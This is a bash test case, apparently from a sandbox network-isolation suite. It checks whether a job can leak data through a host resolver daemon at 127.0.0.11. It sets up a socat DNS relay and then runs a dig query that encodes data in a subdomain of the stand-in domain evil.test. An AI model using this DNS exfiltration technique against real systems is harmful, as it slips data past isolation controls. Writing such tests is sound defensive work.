# shellcheck shell=bash disable=SC2034,SC2154,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
# Docker's 127.0.0.11, dnsmasq, a stub: what the job asks leaves from another cgroup.
title='A resolver daemon of the host as relay' origin='RESEARCH §2.45'
reason=foreign_resolver forms='output'
prepare() { start "$T/relay" c socat UDP-LISTEN:53,bind=127.0.0.11,fork,reuseaddr UDP:198.18.2.53:53; }
attack() { eventually 15 h c sh -c 'ss -Hlun src 127.0.0.11 | grep -q .' && client dig +tries=1 +timeout=10 @127.0.0.11 "$1.evil.test"; }
